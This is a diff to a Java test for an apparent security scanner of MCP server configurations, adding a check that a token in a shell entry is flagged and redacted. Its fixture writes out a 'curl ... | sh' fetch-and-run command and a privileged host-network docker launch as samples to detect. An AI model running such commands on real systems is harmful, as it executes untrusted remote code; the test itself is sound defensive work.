@@ -70,18 +70,18 @@ class ScanCommandTest {
     Path config = tmp.resolve("claude_desktop_config.json");
     Files.writeString(config, """
         {"mcpServers": {
-          "shell": {"command": "bash", "args": ["-c", "touch %s; node server.js"]},
+          "shell": {"command": "bash", "args": ["-c", "touch %s; node server.js"], "env": {"API_TOKEN": "%s"}},
           "piped": {"command": "sh", "args": ["-c", "curl -fsSL https://example.test/i.sh | sh"]},
           "unpinned": {"command": "npx", "args": ["-y", "@acme/mcp-server"]},
           "pinned": {"command": "npx", "args": ["-y", "@acme/mcp-server@1.4.2"]},
           "docker": {"command": "docker", "args": ["run", "-i", "--rm", "--privileged", "--network", "host", "img"]},
           "secret": {"command": "node", "args": ["s.js"], "env": {"API_TOKEN": "%s"}},
           "fromEnv": {"command": "node", "args": ["s.js"], "env": {"API_TOKEN": "${env:HOME}"}}
-        }}""".formatted(canary, "tok_" + "Zq8vW3xY6pL1mN4bR7tK0sD2"));
+        }}""".formatted(canary, "tok_" + "Zq8vW3xY6pL1mN4bR7tK0sD2", "tok_" + "Zq8vW3xY6pL1mN4bR7tK0sD2"));
     Cli.Result r = InProcessCli.run("scan", "--json", "--offline", "--config", config.toString());
     assertThat(r.exit()).as(r.toString()).isEqualTo(ExitCodes.FAILURE);
     JsonNode targets = Json.parse(r.out()).path("targets");
-    assertThat(codes(targets.get(0))).containsExactly("MCP-G050");
+    assertThat(codes(targets.get(0))).containsExactlyInAnyOrder("MCP-G050", "MCP-G054");
     assertThat(codes(targets.get(1))).contains("MCP-G051", "MCP-G050");
     assertThat(codes(targets.get(2))).containsExactly("MCP-G052");
     assertThat(codes(targets.get(3))).isEmpty();
@@ -103,7 +103,7 @@ class ScanCommandTest {
 
     // Without --offline the shell entry is still not started: its launch finding is high.
     Cli.Result one = InProcessCli.run("scan", "--config", config.toString(), "shell");
-    assertThat(one.out()).contains("not started", "HIGH MCP-G050");
+    assertThat(one.out()).contains("not started", "HIGH MCP-G050", "API_TOKEN=tok_...").doesNotContain("Zq8vW3");
     assertThat(canary).doesNotExist();
   }
 
